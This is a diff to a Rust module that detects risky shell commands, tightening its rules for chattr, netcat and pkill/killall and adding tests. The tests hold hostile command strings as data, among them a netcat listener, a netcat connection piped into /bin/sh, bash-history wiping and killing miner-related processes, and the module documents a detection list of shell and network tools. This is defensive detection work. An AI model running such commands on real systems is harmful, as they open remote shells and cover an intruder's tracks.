@@ -16,7 +16,10 @@
 //! | `chmod` | a mode granting execute (`+x`, `u+x`, `777`, `755`, ...) |
 //! | `sh bash dash ash zsh ksh` | `-c ...` (inner text analysed too), a script argument, or as a pipe target |
 //! | `python perl php ruby` | `-c` / `-e` |
-//! | `iptables ip6tables ufw nft firewall-cmd chattr nc ncat netcat pkill killall mkfifo useradd` | any argument |
+//! | `iptables ip6tables ufw nft firewall-cmd mkfifo useradd` | any argument |
+//! | `chattr` | a `+flags` / `-flags` argument |
+//! | `nc ncat netcat` | a host, port or `-e -c -l -v -p -n -u -z` option |
+//! | `pkill killall` | a process name (not only options) |
 //! | `crontab chpasswd` | any argument or as a pipe target |
 //! | `systemctl` / `service` | enable, disable, start, stop, restart, mask, ... |
 //! | `rm` | recursive and forced (`-rf`, `-fr`, `-r -f`) |
@@ -177,8 +180,22 @@ fn segment(seg: &str, piped: bool, depth: u8, found: &mut Found) {
             }
         }
         "python" | "perl" | "php" | "ruby" => args.iter().any(|a| *a == "-c" || *a == "-e"),
-        "iptables" | "ip6tables" | "ufw" | "nft" | "firewall-cmd" | "chattr" | "nc" | "pkill"
-        | "killall" | "mkfifo" | "useradd" => !args.is_empty(),
+        "iptables" | "ip6tables" | "ufw" | "nft" | "firewall-cmd" | "mkfifo" | "useradd" => {
+            !args.is_empty()
+        }
+        "chattr" => args
+            .iter()
+            .any(|a| a.len() > 1 && (a.starts_with('+') || a.starts_with('-'))),
+        "nc" => {
+            args.iter().any(|a| {
+                a.bytes().all(|b| b.is_ascii_digit())
+                    || (a.len() > 1
+                        && a.starts_with('-')
+                        && a[1..].bytes().all(|b| b"elvpnuzc".contains(&b)))
+            }) || has_target(&args)
+        }
+        // A process name, not just options (help lines such as "-V, --version").
+        "pkill" | "killall" => args.iter().any(|a| !a.starts_with('-')),
         "crontab" | "chpasswd" => !args.is_empty() || piped,
         "systemctl" => args.iter().any(|a| {
             matches!(
@@ -300,7 +317,10 @@ fn has_target(args: &[&str]) -> bool {
     args.iter().any(|a| {
         // Sentence punctuation ("for more options.") is not a host.
         let t = a.trim_end_matches(['.', ',', ';']);
-        !t.starts_with('-') && t.contains(['.', ':', '/', '%', '$'])
+        // A dotted number that is not a quad is a version ("curl 7.88.1").
+        let version =
+            t.bytes().all(|b| b.is_ascii_digit() || b == b'.') && t.split('.').count() != 4;
+        !t.starts_with('-') && !version && t.contains(['.', ':', '/', '%', '$'])
     })
 }
 
@@ -408,6 +428,9 @@ mod tests {
             ("rm -r -f ~/.bash_history", &["rm"]),
             ("kill -9 %d", &["kill"]),
             ("pkill -f xmrig", &["pkill"]),
+            ("killall -9 kworkerds", &["killall"]),
+            ("nc -lvp 4444", &["nc"]),
+            ("ncat 10.0.0.1 4444 | /bin/sh", &["nc", "sh"]),
             ("history -c", &["history"]),
             ("unset HISTFILE", &["history"]),
             ("export HISTFILE=/dev/null", &["history"]),
@@ -461,6 +484,13 @@ mod tests {
             "nc",
             "the iptables",
             "/usr/bin/env",
+            "curl 7.88.1 (x86_64-pc-linux-gnu) %s",
+            "wget 1.21.3",
+            "killall -V, --version",
+            "killall -l, --list",
+            "nc != except",
+            "nc _() {H",
+            "chattr %s (%s)",
         ] {
             assert!(flag_tools(s).is_empty(), "{s:?} gave {:?}", flag_tools(s));
         }
